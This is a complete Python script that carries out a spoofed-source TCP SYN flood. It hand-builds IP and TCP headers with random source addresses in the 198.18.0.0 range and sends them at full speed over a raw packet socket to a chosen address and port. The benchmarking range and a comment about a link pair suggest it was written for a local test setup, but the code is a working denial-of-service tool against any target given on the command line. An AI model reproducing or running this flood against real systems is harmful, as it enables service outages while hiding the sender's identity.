#!/usr/bin/env python3
"""flood.py INTERFACE ADDRESS PORT COUNT: SYNs from addresses that nobody has, as fast as they go."""

import random
import socket
import struct
import sys

INTERFACE, ADDRESS, PORT, COUNT = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
dice = random.Random(520)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def hardware_address(name):
    return bytes.fromhex(open(f"/sys/class/net/{name}/address").read().strip().replace(":", ""))


def syn():
    source, target = struct.pack("!BBH", 198, 18, dice.getrandbits(16)), socket.inet_aton(ADDRESS)
    sequence = dice.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", dice.randrange(1024, 65536), PORT, sequence, 0, 5 << 4, 2, 64240, 0, 0)
    tcp_sum = checksum(source + target + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", tcp_sum) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, dice.getrandbits(16), 0, 64, 6, 0) + source + target
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sender.bind((INTERFACE, 0))
# To everybody on the link: the other end of the pair has an address that is not looked up here.
head = b"\xff" * 6 + hardware_address(INTERFACE) + b"\x08\x00"
for _ in range(COUNT):
    sender.send(head + syn())
